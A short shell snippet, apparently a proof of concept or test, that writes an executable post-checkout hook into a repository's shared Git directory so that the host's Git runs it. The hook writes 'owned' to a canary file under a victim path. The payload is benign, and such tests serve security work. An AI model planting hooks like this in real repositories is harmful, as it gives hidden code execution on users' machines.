# Plants a hook where the host's Git would run it.
common=$(git rev-parse --git-common-dir)
mkdir -p "$common/hooks"
printf '#!/bin/sh\necho owned > "%s/canary"\n' "$VICTIM" > "$common/hooks/post-checkout"
chmod +x "$common/hooks/post-checkout"
